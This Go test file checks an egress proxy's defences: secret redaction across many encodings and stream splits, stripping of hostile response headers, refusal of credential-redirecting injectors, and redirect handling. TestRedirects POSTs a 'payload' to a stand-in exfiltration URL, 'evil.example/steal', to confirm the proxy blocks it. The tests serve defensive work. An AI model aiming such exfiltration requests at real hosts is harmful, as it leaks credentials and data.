package egress

import (
	"bufio"
	"bytes"
	"compress/gzip"
	"context"
	"encoding/base64"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"html"
	"io"
	"net/http"
	"net/url"
	"slices"
	"strconv"
	"strings"
	"sync"
	"testing"
	"testing/iotest"
	"time"

	"github.com/sallyport-dev/sallyport/internal/action"
)

// awkward has every character that some encoding writes differently.
const awkward = `s3cr3t/+="<&>'\ ~?value`

func encodings(s string) map[string]string {
	q, _ := json.Marshal(s)
	each := func(format string) string { // every character in an escape of its own
		var b strings.Builder
		for _, r := range s {
			fmt.Fprintf(&b, format, r)
		}
		return b.String()
	}
	odd := strings.NewReplacer("e", `\u0065`, "a", "&#x61;", "o", "%6f", `"`, "&quot;").Replace(s)
	return map[string]string{
		"raw": s, "query": url.QueryEscape(s), "path": url.PathEscape(s), "query_lower": lowerHex(url.QueryEscape(s)),
		"json": strings.Trim(string(q), `"`), "html": html.EscapeString(s), "hex": hex.EncodeToString([]byte(s)),
		"base64":        base64.StdEncoding.EncodeToString([]byte(s)),
		"base64url":     base64.RawURLEncoding.EncodeToString([]byte(s)),
		"base64_shift1": base64.StdEncoding.EncodeToString([]byte("a" + s + "bc")),
		"base64_shift2": base64.StdEncoding.EncodeToString([]byte("ab" + s + "c")),
		"basic_auth":    base64.StdEncoding.EncodeToString([]byte("user:" + s)),
		"percent_all":   percentAll(s),
		"json_ascii":    strings.Trim(strconv.QuoteToASCII(s), `"`),
		"json_all":      each(`\u%04x`),
		"html_decimal":  each("&#%d;"),
		"html_hex":      each("&#x%X;"),
		"html_php":      strings.NewReplacer("&", "&amp;", `"`, "&quot;", "'", "&#039;", "<", "&lt;", ">", "&gt;").Replace(s),
		"mixed":         odd,
	}
}

// TestReflection: an endpoint gives back the cookie that the boundary added, in
// every encoding, in body and header; the client must not see it.
//
// Threats: T44, T47 (door)
func TestReflection(t *testing.T) {
	j := &jar{value: awkward}
	for name, form := range encodings(awkward) {
		for _, kind := range []string{"plain", "gzip", "chunked", "octets"} {
			t.Run(name+"_"+kind, func(t *testing.T) {
				o := newOrigin(t, false, func(w http.ResponseWriter, r *http.Request) {
					if r.Header.Get("Cookie") != "session="+awkward {
						t.Errorf("origin got cookie %q", r.Header.Get("Cookie"))
					}
					w.Header().Set("X-Echo", form)
					w.Header().Set("Location", "/?next="+form)
					w.Header().Set("Set-Cookie", "session="+awkward)
					w.Header().Set("Content-Type", "application/json")
					body := "before " + form + " after"
					switch kind {
					case "octets":
						w.Header().Set("Content-Type", "application/octet-stream")
						io.WriteString(w, body)
					case "gzip":
						w.Header().Set("Content-Encoding", "gzip")
						z := gzip.NewWriter(w)
						io.WriteString(z, body)
						z.Close()
					case "chunked":
						for i := range len(body) { // one flush per byte: the secret is cut everywhere
							io.WriteString(w, body[i:i+1])
							http.NewResponseController(w).Flush()
						}
					default:
						io.WriteString(w, body)
					}
				})
				r := newRig(t, o, nil, func(c *Config) { c.Credentials, c.Redactor = j, secrets{awkward, "x"} })
				resp, body := get(t, r.client(false), o.name()+"/")
				if !strings.Contains(body, redacted) || strings.Contains(body, form) || !strings.HasPrefix(body, "before ") || !strings.HasSuffix(body, " after") {
					t.Errorf("body %q", body)
				}
				var head bytes.Buffer
				resp.Header.Write(&head)
				if strings.Contains(head.String(), form) || !strings.Contains(resp.Header.Get("X-Echo"), redacted) || !strings.Contains(resp.Header.Get("Location"), redacted) {
					t.Errorf("header %s", &head)
				}
				if len(resp.Header.Values("Set-Cookie")) > 0 {
					t.Error("a cookie reached the client")
				}
			})
		}
	}
	if len(j.kept) == 0 || j.kept[0] != "session="+awkward {
		t.Errorf("the jar kept %q", j.kept)
	}
}

// Threats: T44 (door)
func TestScrubStream(t *testing.T) {
	s := newScrubber([]Secret{"abcabcabd", "abcabcabdefgh", "0123456789"})
	for in, want := range map[string]string{
		"":                            "",
		"abcabcabcabd":                "abc" + redacted,
		"abcabcabdefgh!":              redacted + "!",
		"abcabcabdefg!":               redacted + "efg!",
		"xabcabcabd0123456789y":       "x" + redacted + redacted + "y",
		"abcabcab":                    "abcabcab",
		"a":                           "a",
		strings.Repeat("abcabcab", 9): strings.Repeat("abcabcab", 9),
	} {
		for name, wrap := range map[string]func(io.Reader) io.Reader{
			"whole": func(r io.Reader) io.Reader { return r }, "bytes": iotest.OneByteReader, "half": iotest.HalfReader, "data_err": iotest.DataErrReader} {
			got, err := io.ReadAll(scrubbed(always(s), wrap(strings.NewReader(in))))
			if err != nil || string(got) != want {
				t.Errorf("%s %q: got %q %v, want %q", name, in, got, err, want)
			}
		}
	}
	if got := newScrubber([]Secret{"short"}); got.active() {
		t.Error("a five byte secret is searched for")
	}
	if got := fmt.Sprintf("%v %s %q %#v", Secret("a"), Secret("a"), Secret("a"), Secret("a")); strings.Contains(got, "a") {
		t.Errorf("a secret prints as %s", got)
	}
}

// FuzzScrub: no cut of the stream changes the result, and no form is left in it.
func FuzzScrub(f *testing.F) {
	f.Add([]byte("xx tok-123456 yy"), uint8(3))
	f.Add([]byte("tok-tok-123456tok-12345"), uint8(1))
	s := newScrubber([]Secret{"tok-123456", "tok-tok-9"})
	f.Fuzz(func(t *testing.T, in []byte, cut uint8) {
		whole, _, _ := s.step(bytes.Clone(in), true)
		var r io.Reader = bytes.NewReader(in)
		if n := int(cut); n < len(in) {
			r = io.MultiReader(bytes.NewReader(in[:n]), bytes.NewReader(in[n:]))
		}
		got, err := io.ReadAll(scrubbed(always(s), iotest.OneByteReader(r)))
		if err != nil || !bytes.Equal(got, whole) {
			t.Fatalf("got %q %v, whole %q", got, err, whole)
		}
		if bytes.Contains(got, []byte("tok-123456")) && !bytes.Contains(in, []byte(redacted[:3])) {
			t.Fatalf("left in %q", got)
		}
	})
}

// TestRefusedEncoding: what was not asked for cannot be searched.
//
// Threats: T44, C14 (door)
func TestRefusedEncoding(t *testing.T) {
	for _, enc := range []string{"br", "deflate", "gzip, gzip", "zstd", "compress", "gzip,br"} {
		o := newOrigin(t, false, func(w http.ResponseWriter, r *http.Request) {
			w.Header().Set("Content-Encoding", enc)
			io.WriteString(w, "opaque")
		})
		r := newRig(t, o, nil)
		resp, body := get(t, r.client(false), o.name()+"/")
		if resp.StatusCode != http.StatusBadGateway || !strings.Contains(body, "response_encoding") {
			t.Errorf("%s: got %d %q", enc, resp.StatusCode, body)
		}
	}
}

// Threats: T43, T47, H8 (door)
func TestResponseHeaders(t *testing.T) {
	o := newOrigin(t, true, func(w http.ResponseWriter, r *http.Request) {
		for _, n := range []string{"Alt-Svc", "Public-Key-Pins", "Set-Cookie", "Sallyport-Decision", "X-Sallyport-A", "Proxy-Authenticate", "Nel", "Report-To"} {
			w.Header().Set(n, "h3=evil")
		}
		w.Header().Set("X-Kept", "1")
		w.Header().Set("Trailer", "X-T")
		w.WriteHeader(http.StatusCreated)
		io.WriteString(w, "x")
		w.Header().Set("X-T", "1")
	})
	r := newRig(t, o, nil)
	for _, h2 := range []bool{false, true} {
		resp, body := get(t, r.client(h2), o.name()+"/")
		if resp.StatusCode != 201 || body != "x" || resp.Header.Get("X-Kept") != "1" {
			t.Errorf("got %d %q %v", resp.StatusCode, body, resp.Header)
		}
		for n, v := range resp.Header {
			if strings.Contains(strings.Join(v, ""), "evil") {
				t.Errorf("%s reached the client", n)
			}
		}
		if len(resp.Trailer) > 0 {
			t.Errorf("trailer %v", resp.Trailer)
		}
	}
}

func TestBodylessResponses(t *testing.T) {
	o := newOrigin(t, false, func(w http.ResponseWriter, r *http.Request) {
		switch r.URL.Path {
		case "/204":
			w.WriteHeader(204)
		case "/304":
			w.Header().Set("Content-Encoding", "gzip")
			w.WriteHeader(304)
		default:
			w.Header().Set("Content-Encoding", "gzip")
			w.Header().Set("Content-Length", "100")
		}
	})
	r := newRig(t, o, nil, func(c *Config) { c.Redactor = secrets{"a-long-secret"} })
	c := r.client(false)
	for _, p := range []string{"/204", "/304"} {
		if resp, body := get(t, c, o.name()+p); body != "" || fmt.Sprint("/", resp.StatusCode) != p {
			t.Errorf("%s: got %d %q", p, resp.StatusCode, body)
		}
	}
	resp, err := c.Head(o.name() + "/head")
	if err != nil || resp.StatusCode != 200 {
		t.Errorf("got %v %v", resp, err)
	}
}

// TestServerSentEvents: each event arrives while the response is still open,
// even while secrets are looked for.
//
// Threats: T44 (door)
func TestServerSentEvents(t *testing.T) {
	next := make(chan string)
	o := newOrigin(t, true, func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/event-stream")
		http.NewResponseController(w).Flush()
		for ev := range next {
			if ev == "end" {
				return
			}
			fmt.Fprintf(w, "data: %s\n\n", ev)
			http.NewResponseController(w).Flush()
		}
	})
	r := newRig(t, o, nil, func(c *Config) { c.Redactor = secrets{"data-secret"} })
	for _, h2 := range []bool{false, true} {
		resp, err := r.client(h2).Get(o.name() + "/events")
		if err != nil {
			t.Fatal(err)
		}
		br := bufio.NewReader(resp.Body)
		for i, ev := range []string{"one", "data-secret", "data-secre"} {
			next <- ev
			line, err := br.ReadString('\n')
			want := []string{"data: one\n", "data: " + redacted + "\n", "data: data-secre\n"}[i]
			if err != nil || line != want {
				t.Fatalf("got %q %v, want %q", line, err, want)
			}
			br.ReadString('\n')
		}
		next <- "end"
		resp.Body.Close()
	}
}

// TestRedirects are not followed; the request that follows is linked.
//
// Threats: C11, T41 (door)
func TestRedirects(t *testing.T) {
	o := newOrigin(t, true, func(w http.ResponseWriter, r *http.Request) {
		switch r.URL.Path {
		case "/start":
			http.Redirect(w, r, "/next?a=1#frag", http.StatusTemporaryRedirect)
		case "/away":
			http.Redirect(w, r, "https://evil.example/steal", http.StatusTemporaryRedirect)
		}
	})
	r := newRig(t, o, nil)
	c := r.client(true)
	get(t, c, o.name()+"/start")
	first := r.last(t).Action.ID
	if n := len(o.all()); n != 1 {
		t.Fatalf("origin got %d requests, want 1", n)
	}
	for _, want := range []string{first, ""} { // linked once
		get(t, c, o.name()+"/next?a=1")
		if got := r.last(t).Action.Request.RedirectOf; got != want {
			t.Errorf("redirectOf %q, want %q", got, want)
		}
	}
	// 307 with a body to another origin: what follows is decided by itself.
	resp, err := c.Post(o.name()+"/away", "text/plain", strings.NewReader("payload"))
	if err != nil {
		t.Fatal(err)
	}
	read(t, resp)
	away := r.last(t).Action.ID
	resp, err = c.Post("https://evil.example/steal", "text/plain", strings.NewReader("payload"))
	if err != nil {
		t.Fatal(err)
	}
	read(t, resp)
	if a := r.last(t).Action; a.Operation != "egress.unmatched" || a.Request.RedirectOf != away || resp.StatusCode == 200 {
		t.Errorf("got %d, recorded %+v", resp.StatusCode, a)
	}
}

func TestReadBack(t *testing.T) {
	status := 200
	o := newOrigin(t, false, func(w http.ResponseWriter, r *http.Request) {
		if r.URL.Path == "/state" {
			io.WriteString(w, "reset:"+r.Header.Get("Cookie"))
			return
		}
		w.WriteHeader(status)
	})
	verify := func(s int, body []byte) string {
		if s == 200 && string(body) == "reset:session=c00kie" {
			return "verified"
		}
		return "odd"
	}
	path := "/state"
	var before []string
	r := newRig(t, o, nil, func(c *Config) {
		c.Credentials = &jar{value: "c00kie"}
		c.Connectors = connectors(func(action.Request, []byte) (Recognized, error) {
			return Recognized{Operation: "app.write", Effect: action.Write, Allowed: true, AllowLocal: true, ReadBack: &ReadBack{Path: path, Verify: verify,
				Before: func(s int, b []byte) { before = append(before, fmt.Sprint(s, string(b))) }}}, nil
		})
	})
	for _, tc := range []struct {
		path   string
		status int
		want   string
	}{{"/state", 200, "verified"}, {"/other", 200, "unknown"}, {"/state", 403, "failed"}, {"//evil/", 200, "unknown"}} {
		path, status = tc.path, tc.status
		resp, err := r.client(false).Post(o.name()+"/w", "text/plain", strings.NewReader("x"))
		if err != nil {
			t.Fatal(err)
		}
		read(t, resp)
		// The client has its answer before the read-back is recorded.
		eventually(t, "the outcome", func() bool {
			return len(r.Log.All()) > 0 && r.Log.All()[len(r.Log.All())-1].Type == "action.outcome"
		})
		if got := lastOutcome(t, r); got.ReadBack != tc.want || got.State != action.Done {
			t.Errorf("%+v: got %+v", tc, got)
		}
	}
	if got, want := fmt.Sprint(before), "[200reset:session=c00kie 200 200reset:session=c00kie 0]"; got != want {
		t.Errorf("before %s, want %s", got, want)
	}
}

// meddler is an Injector that tries to send its credentials elsewhere.
type meddler struct{ f func(*http.Request) }

func (m meddler) Inject(_ context.Context, r *http.Request) error { m.f(r); return nil }
func (m meddler) Observe(*http.Response)                          {}

func TestInjectorCannotRedirect(t *testing.T) {
	o := newOrigin(t, false, nil)
	for name, f := range map[string]func(*http.Request){
		"method": func(r *http.Request) { r.Method = "DELETE" }, "host": func(r *http.Request) { r.Host = "x" },
		"url": func(r *http.Request) { r.URL.Host = "x" }, "path": func(r *http.Request) { r.URL.Opaque = "/x" },
	} {
		r := newRig(t, o, nil, func(c *Config) { c.Credentials = meddler{f} })
		resp, body := get(t, r.client(false), o.name()+"/")
		if resp.StatusCode != http.StatusBadGateway || !strings.Contains(body, "credentials_refused") || len(o.all()) != 0 {
			t.Errorf("%s: got %d %q, origin %+v", name, resp.StatusCode, body, o.all())
		}
	}
}

// TestUpstreamTrust: a certificate of an unknown authority is not accepted.
func TestUpstreamTrust(t *testing.T) {
	o := newOrigin(t, true, nil)
	r := newRig(t, o, nil, func(c *Config) { c.RootsFor = nil })
	resp, _ := get(t, r.client(true), o.name()+"/")
	if resp.StatusCode != http.StatusBadGateway || len(o.all()) != 0 {
		t.Errorf("got %d, origin %+v", resp.StatusCode, o.all())
	}
	if got := lastOutcome(t, r); got.State != action.Failed {
		t.Errorf("outcome %+v, want failed: nothing was sent", got)
	}
}

type explainer struct{}

func (explainer) Explain(_ context.Context, r action.Request, changes bool, _ time.Time) (string, *action.Element, []action.Evidence) {
	return fmt.Sprintf("input-of-%s-%v", r.Path, changes), &action.Element{Tag: "button"}, nil
}

func TestEvidenceAndExplanation(t *testing.T) {
	o := newOrigin(t, false, nil)
	r := newRig(t, o, nil, func(c *Config) { c.Inputs = explainer{}; c.Source = "harness" })
	resp, err := r.client(false).Post(o.name()+"/w", "text/plain", strings.NewReader("evidence"))
	if err != nil {
		t.Fatal(err)
	}
	read(t, resp)
	d := r.last(t)
	if d.Action.Explained != "input-of-/w-true" || d.Action.Element.Tag != "button" || d.Action.Source != "harness" || d.Action.Request.BodyType != "text/plain" {
		t.Errorf("recorded %+v", d.Action)
	}
	for _, e := range r.Log.All() {
		if e.Type == "action.decided" {
			if b, err := r.Log.Payload(t.Context(), e.Evidence[0]); err != nil || string(b) != "evidence" {
				t.Errorf("evidence %q %v", b, err)
			}
		}
	}
}

func always(s *scrubber) func() *scrubber { return func() *scrubber { return s } }

// growing are secrets that become more.
type growing struct {
	mu  sync.Mutex
	all []Secret
}

func (g *growing) Secrets() []Secret {
	g.mu.Lock()
	defer g.mu.Unlock()
	return slices.Clone(g.all)
}

// TestRenewedSecretInAnOpenStream: a token that was renewed after an answer began is
// a secret in the rest of it, as where an application tells of all requests.
//
// Threats: T44 (door)
func TestRenewedSecretInAnOpenStream(t *testing.T) {
	const renewed = "renewed-token-0815"
	known := make(chan struct{})
	o := newOrigin(t, true, func(w http.ResponseWriter, _ *http.Request) {
		w.Header().Set("Content-Type", "text/event-stream")
		io.WriteString(w, "data: first\n\n")
		w.(http.Flusher).Flush()
		<-known
		io.WriteString(w, "data: another request had "+renewed+"\n\n")
	})
	for name, before := range map[string][]Secret{"beside_another": {"the-token-before"}, "the_first": nil} {
		t.Run(name, func(t *testing.T) {
			known = make(chan struct{})
			g := &growing{all: before}
			r := newRig(t, o, nil, func(c *Config) { c.Redactor = g })
			resp, err := r.client(true).Get(o.name() + "/events")
			if err != nil {
				t.Fatal(err)
			}
			defer resp.Body.Close()
			in := bufio.NewReader(resp.Body)
			if line, err := in.ReadString('\n'); err != nil || line != "data: first\n" {
				t.Fatalf("got %q %v", line, err)
			}
			g.mu.Lock()
			g.all = append(slices.Clone(g.all), renewed)
			g.mu.Unlock()
			close(known)
			rest, err := io.ReadAll(in)
			if err != nil || strings.Contains(string(rest), renewed) || !strings.Contains(string(rest), "had "+redacted) {
				t.Errorf("got %q %v", rest, err)
			}
		})
	}
}
